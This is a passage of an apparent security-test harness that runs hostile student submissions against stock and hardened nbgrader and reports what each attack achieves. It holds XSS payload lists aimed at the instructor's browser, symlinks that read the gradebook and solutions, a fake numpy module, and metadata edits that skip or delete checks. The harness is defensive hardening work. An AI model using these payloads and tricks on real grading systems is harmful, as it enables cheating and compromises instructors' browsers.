        answers(gradient_b=f"{WRONG_BIAS}\n\n\nupdate = gradient_b", update="pass", train=TRAINED),
        OWN,
        due=4,
    ),
    Attack(
        "has the right answer take its values in another order",
        answers(
            gradient_b=WRONG_BIAS.replace("y_hat, y", "y, y_hat"),
            update=BORROWED.replace("parameter, alpha * gradient)", "alpha * gradient, parameter)"),
            train=TRAINED.replace("gradient_b(y_hat, y)", "gradient_b(y, y_hat)"),
        ),
        OWN,
        due=4,
    ),
    Attack(
        "keeps the right answer that replaces a wrong one",
        code(
            """
            def keep(*_):
                if gradient_b.__code__.co_consts != wrong.__code__.co_consts:
                    kept.append(gradient_b)

            kept = []
            """,
            answers(
                gradient_b=f"{WRONG_BIAS}\n\nwrong = gradient_b\n"
                "get_ipython().events.register('post_run_cell', keep)",
                update=BORROWED.replace("gradient_b(", "[*kept, wrong][0]("),
                train=TRAINED,
            ),
        ),
        OWN,
        due=4,
    ),
    Attack(
        "defines an answer anew once it is replaced",
        answers(
            gradient_b=WRONG_BIAS,
            train=f"{TRAINED}\n\n\nright = gradient_b\n\n\n"
            "def gradient_b(y_hat, y):\n    global loss, update\n    loss = update = right\n    return 0.0",
        ),
        OWN,
        due=4,
    ),
]

# ---- metadata

FAKE_HELPERS = {"__init__.py": f"def __getattr__(name):\n    return {PASS}"}


def helpers_beside(folder: Path) -> None:
    (folder / "helpers").mkdir()
    for name, text in FAKE_HELPERS.items():
        (folder / "helpers" / name).write_text(text)


def numpy_beside(folder: Path) -> None:
    modules = {
        f"helpers.{Path(name).stem}".removesuffix(".__init__"): text for name, text in FAKE_HELPERS.items()
    }
    (folder / "numpy.py").write_text(
        code(f"""
            import sys, types

            for name, text in {modules!r}.items():
                sys.modules[name] = types.ModuleType(name)
                exec(text, vars(sys.modules[name]))
            array = float = list
        """)
    )


def links_beside(folder: Path) -> None:
    (folder / "notes.txt").symlink_to("../../../gradebook.db")
    (folder / "more.txt").symlink_to(f"/tmp/course/submitted/{BYSTANDER}/{LINEAR}/{FILE}")
    (folder / "all").symlink_to("../../../solutions")


def is_a_link(path: Path) -> None:
    path.unlink()
    path.symlink_to(f"../../{BYSTANDER}/{LINEAR}/{FILE}")


def is_a_link_to_the_solutions(path: Path) -> None:
    path.unlink()
    path.symlink_to(f"../../../solutions/{LINEAR}/{FILE}")


def is_a_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


def is_endless(path: Path) -> None:
    path.unlink()
    path.symlink_to("/dev/zero")


def is_a_pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def is_nested(path: Path) -> None:
    path.write_text('{"cells": ' + "[" * 200_000)


def is_large(path: Path) -> None:
    notebook = json.loads(path.read_text())
    cell = next(cell for cell in notebook["cells"] if cell["cell_type"] == "code")
    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": ["x" * 1_000_000] * 50}]
    path.write_text(json.dumps(notebook))


BESIDE = [
    Attack("brings its own helpers/", beside=helpers_beside),
    Attack("brings its own numpy.py", beside=numpy_beside),
    Attack("links to the gradebook and the solutions", beside=links_beside),
    Attack("hands in a link to another submission", file=is_a_link, victim=True, due=0),
    Attack("hands in a link to the solutions", file=is_a_link_to_the_solutions, victim=True, due=0),
    Attack("brings a pipe", beside=lambda folder: os.mkfifo(folder / "data.csv"), victim=True, alone=True),
    Attack(
        "brings an endless file",
        beside=lambda folder: (folder / "data.csv").symlink_to("/dev/zero"),
        victim=True,
        alone=True,
    ),
    Attack(
        "brings an odd time stamp",
        beside=lambda folder: (folder / "timestamp.txt").write_text("9999-99-99 \ud7ff"),
        victim=True,
        alone=True,
        spoilt=True,
    ),
    Attack("hands in a folder", file=is_a_folder, victim=True, alone=True, due=0),
    Attack("hands in a pipe", file=is_a_pipe, victim=True, alone=True, due=0),
    Attack("hands in an endless file", file=is_endless, victim=True, alone=True, due=0),
    Attack("hands in a file nested without end", file=is_nested, victim=True, due=0),
    Attack("hands in 50 MB of outputs", file=is_large, victim=True),
]

# ---- metadata

ANSWERED = [name for name in right_answers(LINEAR) if name != "predict"]
CHECKED = [name for name in checks(LINEAR) if name != "check_predict"]


def tagged(notebook: NotebookNode) -> None:
    for name in CHECKED:
        find(notebook, name).metadata.tags = ["skip-execution", "raises-exception"]


def worth_a_thousand(notebook: NotebookNode) -> None:
    find(notebook, "check_predict").metadata.nbgrader.points = 1000


def as_markdown(notebook: NotebookNode) -> None:
    for name in CHECKED:
        cell = find(notebook, name)
        cell.cell_type = "markdown"
        del cell["outputs"], cell["execution_count"]


def deleted(notebook: NotebookNode) -> None:
    notebook.cells = [
        cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") not in CHECKED
    ]


def doubled(notebook: NotebookNode) -> None:
    for name in CHECKED:
        cell = find(notebook, name)
        copy = nbformat.from_dict({**cell, "id": f"copy-{name}", "source": "pass"})
        notebook.cells.insert(notebook.cells.index(cell) + 1, copy)


def unlocked(notebook: NotebookNode) -> None:
    for name in CHECKED:
        cell = find(notebook, name)
        cell.metadata.nbgrader.update(locked=False, solution=True)
        cell.source = "pass"


def from_the_future(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.schema_version = 99


def swapped(notebook: NotebookNode) -> None:
    """Let the check of the right answer stand for the one that is worth most, and the other way round."""
    right, dear = find(notebook, "check_predict"), find(notebook, "check_train")
    right.metadata.nbgrader.grade_id, dear.metadata.nbgrader.grade_id = "check_train", "check_predict"


def all_ids_the_same(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.grade_id = "check_predict"


def with_odd_types(notebook: NotebookNode) -> None:
    cells = [find(notebook, name) for name in ("check_loss", "check_update", "check_train")]
    cells[0].metadata.nbgrader = ["grade"]
    cells[1].metadata.nbgrader.points = {"a": 1}
    cells[2].metadata.nbgrader.grade_id = 5


def other_kernel(notebook: NotebookNode) -> None:
    notebook.metadata.kernelspec = {"name": "bash", "language": "bash", "display_name": "bash"}
    notebook.metadata.language_info = {"name": "bash"}


METADATA = [
    Attack("tags its checks as skipped", edit=tagged),
    Attack("makes a check worth 1000 points", edit=worth_a_thousand),
    Attack("turns its checks into text", edit=as_markdown, victim=True),
    Attack("deletes its checks", edit=deleted),
    Attack("copies its checks, emptied", edit=doubled, victim=True, alone=True),
    Attack("unlocks its checks and empties them", edit=unlocked),
    Attack("comes from the future", edit=from_the_future, victim=True, alone=True),
    Attack("swaps the names of two checks", edit=swapped, spoilt=True),
    Attack("gives all cells one name", edit=all_ids_the_same, victim=True, alone=True, spoilt=True),
    Attack("has metadata of odd types", edit=with_odd_types, victim=True, alone=True, spoilt=True),
    Attack("asks for another kernel", edit=other_kernel, victim=True),
    Attack("deletes answers that had earned points", edit=deleted, alone=True, again=True),
    Attack(
        "deletes all cells", edit=lambda notebook: notebook.update(cells=[]), alone=True, again=True, due=0
    ),
]

# ---- the instructor's browser

SCRIPTS = [
    "<script>MISCHIEF()</script>",
    "<ScRiPt src=//example.org/MISCHIEF.js></sCrIpT>",
    "<img src=x onerror=MISCHIEF()>",
    "<svg onload=MISCHIEF()>",
    '<iframe srcdoc="<script>MISCHIEF()</script>"></iframe>',
    "<details open ontoggle=MISCHIEF()><summary>x</summary></details>",
    "[click](javascript:MISCHIEF())",
    "[click](JaVaScRiPt:MISCHIEF())",
    "[click](java&#10;script:MISCHIEF())",
    "[click](&#106;avascript:MISCHIEF())",
    "[click](vbscript:MISCHIEF())",
    "[click](data:text/html;base64,MISCHIEF)",
    "[click][to]\n\n[to]: javascript:MISCHIEF()",
    "<javascript:MISCHIEF()>",
    '![x](x"onerror="MISCHIEF())',
    '![x](x "y\\" onerror=MISCHIEF() ")',
    '[x](x "y\\"onmouseover=MISCHIEF()")',
    r"$\href{javascript:MISCHIEF()}{x}$",
    "$$<img src=x onerror=MISCHIEF()>$$",
    r"\begin{equation}<img src=x onerror=MISCHIEF()>\end{equation}",
    "<style>@import '//example.org/MISCHIEF.css';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:MISCHIEF()'>",
    "<form action='javascript:MISCHIEF()'><button>x</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=MISCHIEF()>",
    "`</code><script>MISCHIEF()</script>`",
    '```html"><script>MISCHIEF()</script>\nx\n```',
    "# <img src=x onerror=MISCHIEF()>",
    "|a|\n|-|\n|<img src=x onerror=MISCHIEF()>|",
    "<!-- --><script>MISCHIEF()</script> <!--",
    '<a href="//example.org" onclick=MISCHIEF()>x</a>',
]
SCRIPTS = [script.replace("MISCHIEF", MISCHIEF) for script in SCRIPTS]


def scripts_in_text(notebook: NotebookNode) -> None:
    notebook.cells += [new_markdown_cell(script) for script in SCRIPTS]


def scripts_in_raw_cells(notebook: NotebookNode) -> None:
    notebook.cells += [new_raw_cell(script) for script in SCRIPTS]
    notebook.cells += [new_raw_cell(script, metadata={"raw_mimetype": "text/html"}) for script in SCRIPTS]


def puzzle_in_text(notebook: NotebookNode) -> None:
    """Add what nbconvert takes minutes to look for the other end of."""
    notebook.cells += [new_markdown_cell(r"\begin{a}" * 20_000), new_markdown_cell("$$a `" * 20_000)]


def puzzle_in_code(notebook: NotebookNode) -> None:
    notebook.cells.append(new_code_cell("pass\n" + '"\\\n' * 20_000 + "!" * 20_000))
    notebook.cells.append(new_code_cell("(" * 90_000))


def scripts_in_attachments(notebook: NotebookNode) -> None:
    for kind in ("image/svg+xml", f'image/png"><script>{MISCHIEF}()</script><img src="'):
        cell = new_markdown_cell("![x](attachment:x.png)")
        cell.attachments = {"x.png": {kind: f'"><script>{MISCHIEF}()</script>'}}
        notebook.cells.append(cell)


def scripts_in_metadata(notebook: NotebookNode) -> None:
    script = f'"></title></script><script>{MISCHIEF}()</script>'
    notebook.metadata.title = script
    notebook.metadata.language_info = {"name": script, "pygments_lexer": script, "codemirror_mode": script}
    state = {"state": {script: {"model_name": script}}, "version_major": 2, "version_minor": 0}
    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": state}
    for cell in notebook.cells:
        cell.metadata.tags = [script]
        cell.metadata.slideshow = {"slide_type": script}


def scripts_in_old_outputs(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            html = f"<script>{MISCHIEF}()</script>"
            cell.outputs = [nbformat.v4.new_output("display_data", {"text/html": html})]


def scripts_in_names(notebook: NotebookNode) -> None:
    notebook.cells.append(new_code_cell("pass", id="x"))
    notebook.cells[-1].id = f'"><script>{MISCHIEF}()</script>'
    find(notebook, "loss").metadata.nbgrader.grade_id = f'"><script>{MISCHIEF}()</script>'


def shows(*kinds: str) -> str:
    return code(f"""
        from IPython.display import display

        for text in {SCRIPTS!r}:
            for kind in {kinds!r}:
                display({{kind: text, "text/plain": text}}, raw=True)
    """)


BROWSER = [
    Attack("puts scripts into text", edit=scripts_in_text),
    Attack("puts scripts into raw cells", edit=scripts_in_raw_cells),
    Attack("puts a puzzle into text", edit=puzzle_in_text, victim=True, alone=True),
    Attack("puts a puzzle into code", edit=puzzle_in_code, victim=True, alone=True),
    Attack("puts scripts into attachments", edit=scripts_in_attachments),
    Attack("puts scripts into metadata", edit=scripts_in_metadata),
    Attack("puts scripts into old outputs", edit=scripts_in_old_outputs),
    Attack("puts scripts into names", edit=scripts_in_names, victim=True, alone=True),
    Attack("shows scripts as HTML", shows("text/html")),
    Attack("shows scripts as Markdown and LaTeX", shows("text/markdown", "text/latex")),
    Attack("shows scripts as SVG", shows("image/svg+xml")),
    Attack(
        "shows scripts as JavaScript and widgets",
        shows("application/javascript", "application/vnd.jupyter.widget-view+json"),
    ),
    Attack("shows scripts as pictures", shows("image/png", "image/jpeg", "application/pdf")),
    Attack(
        "shows scripts as a picture's description",
        code(f"""
            from IPython.display import display

            script = '"><script>{MISCHIEF}()</script><img onerror="{MISCHIEF}()'
            pixel = (
                "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
            )
            options = dict.fromkeys(["alt", "width", "height", "unconfined", script], script)
            display({{"image/png": pixel}}, raw=True, metadata={{"image/png": options, **options}})
        """),
    ),
    Attack(
        "puts scripts into errors and streams",
        code(f"""
            import sys

            for text in {SCRIPTS!r}:
                print(text, "\\x1b[31m" + text + "\\x1b]8;;javascript:{MISCHIEF}()\\x07x")
                print(text, file=sys.stderr)

            class Error(Exception):
                def _render_traceback_(self):
                    return {SCRIPTS!r}

            Error.__name__ = {SCRIPTS[0]!r}
            raise Error({SCRIPTS[0]!r})
        """),
    ),
    Attack(
        "puts scripts into answers",
        code(f"""
            def loss(y_hat, y):
                raise ValueError({SCRIPTS[0]!r} + {SCRIPTS[2]!r})

            loss.__name__ = {SCRIPTS[0]!r}
        """),
    ),
]

ATTACKS = {
    "reading": READING,
    "writing": WRITING,
    "harm": HARMING,
    "leaving something": LEAVING,
    "patching": PATCHING,
    "forging": FORGING,
    "beside the notebook": BESIDE,
    "living off right answers": LIVING_OFF,
    "metadata": METADATA,
    "the instructor's browser": BROWSER,
}
EVERY = [attack for attacks in ATTACKS.values() for attack in attacks]


# ---- a class of them


@dataclass(frozen=True)
class Ids:
    """The ids of the students of one attack, in the order in which they are graded."""

    accomplice: str
    attacker: str
    victim: str

    @classmethod
    def of(cls, attack: Attack) -> "Ids":
        """Return them; no id begins with another, so that they sort as they should."""
        number = EVERY.index(attack) + 1
        looked_at = LOOKED_AT if attack in [*READING, *BESIDE, *LIVING_OFF, *BROWSER] else ""
        return cls(f"{number:03}a-accomplice", f"{number:03}b-attacker{looked_at}", f"{number:03}c-victim")


@cache
def make_course() -> Path:
    """Make a course with nobody in it but the bystander, and with the secrets in their places; return it."""
    folder = Path(tempfile.mkdtemp())
    atexit.register(shutil.rmtree, folder)
    solutions = folder / "solutions" / LINEAR
    solutions.mkdir(parents=True)
    notebook = nbformat.from_dict(reference(LINEAR))
    kept = {"setup", *right_answers(LINEAR), *checks(LINEAR)}  # pictures take their time, and aren't attacked
    notebook.cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") in kept]
    answer = find(notebook, "gradient_b")
    answer.source = answer.source.replace("    return", f"    marker = {SECRETS['solutions']!r}\n    return")
    nbformat.write(notebook, solutions / FILE)
    (folder / "nbgrader_config.py").write_text(STOCK)
    command = [sys.executable, "-m", "nbgrader", "generate_assignment", LINEAR, "--create"]
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"  # for alembic
    subprocess.run(command, cwd=folder, env={**os.environ, "PATH": path}, check=True, capture_output=True)
    with Gradebook(f"sqlite:///{folder / 'gradebook.db'}") as gradebook:
        gradebook.update_or_create_student(BYSTANDER, first_name=SECRETS["gradebook"])
    marked = f"{right_answers(LINEAR)['predict']}  # {SECRETS['submission']}"
    hand_in(folder, BYSTANDER, {"predict": marked})
    return folder


def hand_in(
    folder: Path, student: str, answers: dict[str, str] | None = None, only: Sequence[str] | None = None
) -> tuple[NotebookNode, Path]:
    """Hand in the lesson with right answers, or with others, or with only some; return it and its path."""
    notebook = nbformat.read(folder / "notebooks" / LINEAR / FILE, as_version=4)
    for name, answer in (right_answers(LINEAR) | (answers or {})).items():
        if only is None or name in only:
            find(notebook, name).source = answer
    path = folder / "submitted" / student / LINEAR / FILE
    path.parent.mkdir(parents=True)
    nbformat.write(notebook, path)
    return notebook, path


def add(attack: Attack, folder: Path) -> None:
    """Hand in an attack, and what its accomplice and its victim have."""
    ids = Ids.of(attack)
    right = right_answers(LINEAR)
    if attack.accomplice:
        hand_in(folder, ids.accomplice, {"loss": f"{right['loss']}\n\n{attack.accomplice}"})
    if attack.victim:
        hand_in(folder, ids.victim)
    answers = {"predict": right["predict"]}
    wrong = "def loss(y_hat, y):\n    return y_hat\n\n\n"
    if attack.code:
        text = attack.code.replace("STUDENT", ids.attacker).replace("VICTIM", ids.victim)
        answers["loss"] = wrong + text
    if attack.then:
        answers |= {name: attack.then.replace("NAME", name) for name in ANSWERED if name != "loss"}
    if attack.again:
        hand_in(folder, ids.attacker)
        final = folder / "again" / ids.attacker / LINEAR / FILE
        final.parent.mkdir(parents=True)
    notebook, path = hand_in(folder, f"{ids.attacker}.draft", answers, only=answers)
    attack.edit(notebook)
    path.write_text(json.dumps(notebook))  # nbformat would mend it
    attack.beside(path.parent)
    attack.file(path)
    if attack.again:
        shutil.move(path, final)
        shutil.rmtree(path.parents[1])
    else:
        path.parents[1].rename(folder / "submitted" / ids.attacker)


def run(
    attacks: Sequence[Attack], configuration: str, *, seconds: float, trusted: bool, container: bool = False
) -> Seen:
    """Set attacks on nbgrader with a configuration, in one jail."""
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(shutil.copytree(make_course(), Path(scratch, "course")))
        (folder / "nbgrader_config.py").write_text(configuration)
        for package in ("grading", "helpers"):  # as pip installs them, which stock nbgrader has no use for
            shutil.copytree(ROOT / package, folder / INSTALLED / package)
        (folder / INSTALLED / "backprop_by_hand-0.dist-info").mkdir()
        for attack in attacks:
            add(attack, folder)
        return grade(folder, LINEAR, SECRETS, seconds=seconds, trusted=trusted, container=container)


# ---- what came of it


def outcome(attack: Attack, seen: Seen) -> list[str]:
    """Return what an attack gained and harmed, a few words each; none is what there should be."""
    ids = Ids.of(attack)
    who = [student for student in (ids.accomplice, ids.attacker, ids.victim) if student]
    points = {student: sum(of_checks.values()) for student, of_checks in seen.points.items()}
    found = []
    gained = points.get(ids.attacker, 0) - attack.due
    if gained > 0:
        found.append(f"{gained:+g} points")
    elif not attack.spoilt and ids.attacker not in seen.graded:
        found.append("isn't graded")
    elif not attack.spoilt and gained < 0:
        found.append("its own point is lost")
    found += [f"reads the {place}" for place in seen.leaked.get(ids.attacker, [])]
    changed = {path.split("/")[0] for student, path in seen.changed if student in who}
    found += [f"changes {place}/" for place in sorted(changed)]
    if points.get(BYSTANDER) != ALL:
        found.append("another student's points are gone")
    if any(ids.attacker in call for call in seen.calls):
        found.append("reaches the network")
    for honest in [ids.accomplice] * bool(attack.accomplice) + [ids.victim] * attack.victim:
        if honest not in seen.graded or honest not in seen.points:
            found.append("an honest student isn't graded")
        elif points[honest] != ALL:
            found.append(f"an honest student gets {points[honest]:g} of {ALL:g} points")
    for what, most in (("memory", MOST_MEMORY), ("disk", MOST_DISK)):
        took = max((getattr(seen, what).get(student, 0) for student in who), default=0)
        if took > most:
            found.append(f"takes {took / 1e9:.1f} GB of {what}")
    processes = max((seen.processes.get(student, 0) for student in who), default=0)
    if processes > MOST_PROCESSES:
        found.append(f"starts {processes} processes")
    took = seen.seconds.get(ids.attacker, 0)
    if took > MOST_SECONDS:
        found.append(f"takes {took:.0f} seconds")
    scripts = len(seen.scripts.get(ids.attacker, []))
    if scripts:
        found.append(f"{scripts} scripts in the pages")
    return found


def of_all(seen: Seen) -> list[str]:
    """Return what happened to a class as a whole that can't be laid at one attack's door."""
    found = []
    if not seen.ended:
        found.append("grading never ended" if seen.status is None else "grading was killed")
    if not seen.fed_back:
        found.append("making the pages never ends")
    if seen.left:
        found.append(f"{len(seen.left)} left running")
    return found


def table(rows: dict[str, list[tuple[str, ...]]]) -> str:
    """Lay out the attacks with what they do to stock nbgrader and to ours."""
    widths = (44, 50, 24, 24)
    lines = [
        "  ".join(
            f"{head:<{width}}"
            for head, width in zip(
                ("attack", "stock nbgrader", "ours", "in a container"), widths, strict=True
            )
        )
    ]
    lines.append("-" * sum(widths))
    for section, attacks in rows.items():
        lines.append(f"[{section}]")
        for row in attacks:
            parts = [wrap(text, width) or [""] for text, width in zip(row, widths, strict=True)]
            for number in range(max(map(len, parts))):
                cells = (part[number] if number < len(part) else "" for part in parts)
                lines.append(
                    "  ".join(f"{cell:<{width}}" for cell, width in zip(cells, widths, strict=True)).rstrip()
                )
    return "\n".join(lines)


def against_stock(attacks: Sequence[Attack]) -> dict[str, list[str]]:
    """Set attacks on stock nbgrader, and return what came of each, by its name.

    Those that are aimed at others have a jail each, the others are one class.
    """
    together = [attack for attack in attacks if not attack.alone]
    classes = [together] * bool(together) + [[attack] for attack in attacks if attack.alone]

    def one(some: list[Attack]) -> dict[str, list[str]]:
        print(f"stock nbgrader: {', '.join(attack.name for attack in some)}", file=sys.stderr, flush=True)
        seen = run(some, STOCK, seconds=100 + 10 * len(some), trusted=False)
        return {attack.name: outcome(attack, seen) + of_all(seen) * attack.alone for attack in some}

    make_course()
    with ThreadPoolExecutor(2) as pool:
        return {name: words for found in pool.map(one, classes) for name, words in found.items()}


def against_ours(attacks: Sequence[Attack], container: bool = False) -> Seen:
    """Set attacks on the project's grading, all in one class, and return what was seen; or in a container."""
    configuration = (ROOT / "nbgrader_config.py").read_text() + LESS_PATIENCE
    trusted = os.geteuid() == 0 and not container
    return run(attacks, configuration, seconds=120 + 15 * len(attacks), trusted=trusted, container=container)


def main() -> None:
    """Print what the attacks named on the command line, or all, do to stock nbgrader and to ours."""
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("attacks", nargs="*", metavar="WORDS", help="words in the names of attacks; else all")
    words = parser.parse_args().attacks
    chosen = [attack for attack in EVERY if not words or any(word in attack.name for word in words)]
    if why := why_no_jail():
        sys.exit(why)
    stock, seen, contained = against_stock(chosen), against_ours(chosen), against_ours(chosen, container=True)

    def found(attack: Attack) -> list[list[str]]:
        return [stock[attack.name], outcome(attack, seen), outcome(attack, contained)]

    rows = {
        section: [
            (attack.name, *("; ".join(words) or "-" for words in found(attack)))
            for attack in attacks
            if attack in chosen
        ]
        for section, attacks in ATTACKS.items()
    }
    together = ("; ".join(of_all(each)) or "-" for each in (seen, contained))
    rows["all of them together"] = [("in one class", "", *together)]
    print(table(rows))
    took = sum(seen.seconds.values()) / max(len(seen.seconds), 1)
    print(f"\n{len(chosen)} attacks. Ours graded {len(seen.seconds)} notebooks, each in {took:.2f} seconds.")


if __name__ == "__main__":
    main()
